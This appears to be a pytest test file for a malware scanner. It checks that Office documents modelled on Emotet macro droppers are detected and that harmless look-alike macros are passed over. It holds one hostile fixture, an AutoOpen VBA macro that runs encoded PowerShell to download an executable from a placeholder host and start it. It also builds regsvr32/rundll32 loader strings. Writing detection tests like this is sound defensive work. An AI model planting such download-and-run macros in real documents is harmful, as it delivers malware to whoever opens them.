"""Documents like Emotet's over its years, with random names, separators and layouts; and what must not be taken for them."""

from __future__ import annotations

from dataclasses import replace
from random import Random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from support import document_decoys as decoys
from support.looking import HERE, found, level

from mimawari.model import Finding, Level, OfficeDocument, Strength
from mimawari.model.office import Control, Module, Picture, Properties, VbaProject


def by_kind(document: OfficeDocument) -> dict[str, Finding]:
    return {finding.kind: finding for finding in found((document,), ())}


@pytest.mark.parametrize("seed", range(120))
def test_a_word_document_with_a_strewn_command_is_found(seed: int) -> None:
    draw = Random(f"word {seed}")
    said = by_kind(decoys.word_document(draw, in_form=seed % 2 == 0, is_fresh=seed % 3 != 0))
    assert said["emotet-command"].strength is Strength.CONCLUSIVE
    assert said["emotet-command"].facts["addresses"] == 5
    assert said["macro-delivery"].strength is Strength.STRONG
    assert said["emotet-builder"].family == "emotet"


@pytest.mark.parametrize("seed", range(30))
def test_where_the_command_cannot_be_read_the_builder_still_tells(seed: int) -> None:
    draw = Random(f"unread {seed}")
    said = by_kind(decoys.word_document(draw, in_form=False, is_encoded=False))
    assert "emotet-command" not in said
    assert said["emotet-builder"].strength is Strength.STRONG
    assert said["emotet-builder"].family == "emotet"


@pytest.mark.parametrize("seed", range(60))
def test_a_workbook_with_a_list_of_addresses_is_found(seed: int) -> None:
    draw = Random(f"sheet {seed}")
    said = by_kind(decoys.sheet_document(draw, decoys.addresses(draw, draw.randint(3, 7))))
    assert (said["sheet-macro"].family, said["sheet-macro"].strength) == ("emotet", Strength.STRONG)


@pytest.mark.parametrize("seed", range(60))
def test_another_family_of_workbooks_is_found_and_not_called_emotet(seed: int) -> None:
    draw = Random(f"other sheet {seed}")
    ends = draw.choice(("png", "dat", "html", "gif", "php"))
    urls = [f"{url.rstrip('/')}.{ends}" for url in decoys.addresses(draw, draw.randint(1, 4))]
    loader = draw.choice(("regsvr32.exe -silent ", "rundll32.exe "))
    said = by_kind(decoys.sheet_document(draw, urls, folder=draw.choice(("..\\", "C:\\Merto\\")), loader=loader))
    assert (said["sheet-macro"].family, said["sheet-macro"].strength) == (None, Strength.STRONG)


ONE_ADDRESS = "$w=new-object net.webclient;$w.downloadfile('http://a.example.com/wp-content/a1/','{path}');start-process '{path}'"


@pytest.mark.parametrize("seed", range(40))
def test_another_familys_downloader_is_not_called_emotet(seed: int) -> None:
    draw = Random(f"one {seed}")
    text = decoys.encoded(ONE_ADDRESS.format(path=f"c:\\users\\public\\{decoys.name(draw)}.exe"))
    code = f'Sub AutoOpen()\nShell "powershell -enc {text}", 0\nEnd Sub'
    said = by_kind(replace(decoys.word_document(draw, in_form=False), controls=(), vba=_project(code)))
    assert {finding.family for finding in said.values()} == {None}
    assert said["macro-delivery"].strength is Strength.STRONG


def _project(*sources: str, own: str = "ThisDocument") -> VbaProject:
    first = Module(name=own, form="document", base=decoys.WORD)
    return VbaProject(modules=(first, *(Module(name=f"Module{at}", source=source) for at, source in enumerate(sources))))


HONEST = (
    "Sub AutoOpen()\n{form}.Show\nEnd Sub",
    "Sub autoopen()\nActiveDocument.Fields.Update\nEnd Sub",
    'Sub Document_Open()\nSet o = CreateObject("Outlook.Application")\no.CreateItem(0).Display\nEnd Sub',
    'Sub AutoOpen()\nShell "explorer.exe " & ActiveDocument.Path, vbNormalFocus\nEnd Sub',
    'Sub AutoOpen()\nSet w = GetObject("winmgmts:")\ns.ShowWindow = 0\nw.Get("Win32_Process").Create "a", Null, s, p\nEnd Sub',
    'Sub AutoOpen()\nSet x = CreateObject("MSXML2.XMLHTTP")\nx.Open "GET", "https://api.example.jp/v1", False\nx.Send\nEnd Sub',
    'Function {form}(x)\n{form} = Replace(Replace(x, "-", ""), " ", "")\nEnd Function\nSub AutoOpen()\nMsgBox {form}("a")\nEnd Sub',
    'Sub AutoOpen()\nSet f = CreateObject("Scripting.FileSystemObject")\nf.CopyFile "\\\\srv\\a.dotm", Environ("TEMP")\nEnd Sub',
)


@pytest.mark.parametrize("seed", range(200))
def test_honest_documents_that_look_like_it_are_passed_over(seed: int) -> None:
    """Each has several of the marks: a renamed module, no editing, generated words, a long text in a form, a lure's size."""
    draw = Random(f"honest {seed}")
    code = draw.choice(HONEST).replace("{form}", "frmAddress")
    help_text = "Choose the office and press Next. " * draw.randint(10, 160)
    document = OfficeDocument(
        origin=HERE.at("x.dotm"), name="x.dotm", application="word",
        vba=_project(code, own=draw.choice(("ThisDocument", "DiesesDokument", "docLetter", "ЭтотДокумент"))),
        properties=draw.choice((decoys.properties(draw), Properties(company="Smith - Jones", title="Quia voluptas."))),
        controls=(Control(owner="frmAddress", name="txtHelp", text=help_text, in_form=True, stored=len(help_text)),),
        pictures=(Picture(name="logo", width=1126, height=533, dhash="0000001818000000"),),
        text="Order form\nName:\nDate:",
    )  # fmt: skip
    assert level((document,), ()) is Level.NO_SIGN
    assert all(finding.strength is Strength.HINT and finding.family is None for finding in found((document,), ()))


@settings(max_examples=150, derandomize=True, deadline=None)
@given(st.integers(0, 30), st.integers(0, 6_000), st.binary(min_size=1, max_size=6))
def test_a_damaged_document_is_looked_at_without_a_crash(seed: int, at: int, bits: bytes) -> None:
    whole = decoys.word_document(Random(seed), in_form=False)
    assert whole.vba
    spoil = bits.decode("latin-1")
    modules = tuple(replace(one, source=one.source[:at] + spoil) for one in whole.vba.modules)
    controls = tuple(replace(one, text=spoil + one.text[at:]) for one in whole.controls)
    found((replace(whole, vba=replace(whole.vba, modules=modules), controls=controls),), ())
